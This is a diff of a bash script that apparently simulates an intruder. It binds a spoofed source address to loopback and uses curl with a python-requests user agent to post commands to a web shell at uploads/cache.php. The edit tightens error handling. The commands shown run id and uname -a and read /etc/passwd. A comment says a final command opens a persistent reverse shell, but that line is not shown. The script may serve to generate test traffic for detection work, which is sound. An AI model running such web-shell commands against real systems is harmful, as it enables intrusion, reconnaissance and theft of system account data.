@@ -1,11 +1,11 @@
 #!/bin/bash
 # The intruder posts commands to the web shell, from outside: the last one opens a reverse shell that stays.
 # FROM, TO: addresses.
-set -u
+set -eu
 : "${FROM:?}" "${TO:?}"
 trap 'ip address del "$FROM/32" dev lo' EXIT
 ip address add "$FROM/32" dev lo
-post() { curl -s --max-time 20 --interface "$FROM" -A python-requests/2.31.0 --data-urlencode "cmd=$1" "http://$TO/uploads/cache.php"; }
+post() { curl -sf --max-time 20 --interface "$FROM" -A python-requests/2.31.0 --data-urlencode "cmd=$1" "http://$TO/uploads/cache.php"; }
 post id
 post 'uname -a'
 post 'cat /etc/passwd' >/dev/null
